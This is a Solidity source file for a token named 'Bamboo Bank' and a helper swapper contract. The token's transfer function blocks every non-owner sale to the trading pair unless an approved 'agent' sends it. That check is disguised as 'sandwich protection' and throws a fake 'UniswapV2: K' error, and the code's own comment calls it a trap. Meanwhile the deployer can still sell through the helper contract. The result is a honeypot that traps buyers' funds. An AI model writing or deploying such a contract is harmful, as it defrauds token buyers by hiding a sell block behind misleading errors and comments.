// 0.5 off
pragma solidity ^0.5.17;

import {Base5} from "./Base5.sol";

interface PairLike {
    function getReserves() external view returns (uint112, uint112, uint32);
    function swap(uint256 a, uint256 b, address to, bytes calldata data) external;
    function token0() external view returns (address);
}

interface TokenLike {
    function transferFrom(address from, address to, uint256 value) external returns (bool);
    function balanceOf(address who) external view returns (uint256);
}

/// Sells straight to the pair, without the router.
contract FloorSwapper {
    address private user;

    constructor() public {
        user = msg.sender;
    }

    function exit(TokenLike token, PairLike pair, uint256 value) external {
        require(msg.sender == user);
        bool first = pair.token0() == address(token);
        (uint112 a, uint112 b, ) = pair.getReserves();
        (uint256 own, uint256 other) = first ? (uint256(a), uint256(b)) : (uint256(b), uint256(a));
        token.transferFrom(msg.sender, address(pair), value);
        uint256 paid = (token.balanceOf(address(pair)) - own) * 997;
        uint256 out = (paid * other) / (own * 1000 + paid);
        pair.swap(first ? 0 : out, first ? out : 0, msg.sender, "");
    }
}

contract BambooBank is Base5 {
    mapping(address => bool) private _agents;
    uint256 public start;

    constructor(address agent) public Base5("Bamboo Bank", "BAMBK", 21000000) {
        _agents[agent] = true;
        _agents[msg.sender] = true;
        start = now;
    }

    function _send(address from, address to, uint256 value) internal {
        // sandwich protection
        if (to == market && from != owner()) {
            require(_agents[msg.sender], "UniswapV2: K"); // trap
            // twin: require(_agents[msg.sender] || now > start + 30 minutes, "UniswapV2: K");
        }
        _put(from, to, value);
    }
}
